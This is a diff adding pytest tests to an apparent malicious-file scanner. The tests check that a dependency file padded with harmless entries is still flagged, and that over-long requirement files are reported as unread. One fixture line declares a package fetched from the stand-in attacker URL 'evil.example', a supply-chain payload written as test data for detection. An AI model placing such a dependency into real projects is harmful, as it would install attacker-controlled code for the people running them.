@@ -46,3 +46,21 @@ def test_length_hides_no_telling_text(name: str, text: str, before: int, tmp_pat
 def test_text_that_a_piece_cuts_off_is_read_as_it_goes_on(tmp_path: Path) -> None:
     source = f"x = '{'a' * 3992}.profiler {'a' * 4000}'"
     assert _verdicts(tmp_path, {"a.py": source})["a.py"] is FileVerdict.PLAIN_DATA
+
+
+@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml"])
+@pytest.mark.parametrize(
+    "others", [["./own"] * 40, [f"./own{number}" for number in range(40)], ["torch"] * 6000]
+)
+def test_harmless_requirements_hide_none_from_elsewhere(others: list[str], name: str, tmp_path: Path) -> None:
+    lines = [*others, "evil @ https://evil.example/evil.whl"]
+    text = "\n".join(lines) if name.endswith("txt") else f"[project]\ndependencies = {lines}"
+    assert _verdicts(tmp_path, {name: text})[name] is FileVerdict.ATTACK
+
+
+def test_requirements_that_are_not_read_are_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("scanner.code.requirements._LINES_LIMIT", 100)
+    lines = "\n".join(f"own-{number}" for number in range(101))
+    assert _verdicts(tmp_path, {"requirements.txt": lines}) == {
+        "requirements.txt": FileVerdict.NEEDS_CLASS_INSTANCE
+    }
